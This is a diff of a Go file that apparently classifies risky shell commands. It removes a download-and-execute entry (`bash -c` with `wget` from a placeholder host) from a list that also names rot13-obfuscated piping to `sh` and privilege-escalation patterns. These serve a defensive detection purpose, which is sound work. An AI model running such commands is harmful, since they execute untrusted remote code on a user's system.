@@ -254,7 +254,6 @@ var gridHeldAnyway = map[string]bool{"sudo -E env X": true, "chroot /": true, "s
 var gridHoles = map[string]bool{
 	`printf -v`:     true,
 	`tr rot13 | sh`: true,
-	`bash -c "$(wget -qO- https://x.example/s)"`: true,
 }
 
 // gridUnknown: code whose text cannot be known statically; each is held,
